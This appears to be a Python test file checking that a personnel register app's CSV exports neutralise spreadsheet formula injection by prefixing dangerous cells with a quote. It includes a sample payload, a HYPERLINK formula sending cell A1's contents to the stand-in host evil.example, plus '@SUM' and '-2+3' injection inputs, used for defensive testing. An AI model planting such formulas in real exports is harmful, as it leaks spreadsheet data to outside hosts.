"""Formula injection in CSV exports: every CSV the app serves goes through the one writer
(cases.people.csv_cells), so a cell a spreadsheet would run arrives prefixed with a quote."""

from __future__ import annotations

import csv
import io

from web_helpers import login

from cases.review import oversight

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_register_export_neutralises_formula_cells(client, world) -> None:
    world.make_servant("E300", name=FORMULA, position_title="-2+3 officer")
    login(client, "hr")
    rows = cells(client.get("/servants.csv").text)
    header = rows[0]
    (row,) = [dict(zip(header, r, strict=True)) for r in rows[1:] if r[0] == "E300"]
    assert (row["name"], row["position_title"]) == ("'" + FORMULA, "'-2+3 officer")


def test_the_oversight_export_neutralises_formula_cells(client, world, monkeypatch) -> None:
    """The turnaround-time CSV's cells come from the register (agency codes) and the process
    definitions; whatever they hold, the route writes them through the same writer."""
    monkeypatch.setattr(oversight, "csv_rows", lambda rep: [["agency"], ["@SUM(A1:A9)"]])
    login(client, "rcsc")
    assert cells(client.get("/oversight.csv").text) == [["agency"], ["'@SUM(A1:A9)"]]
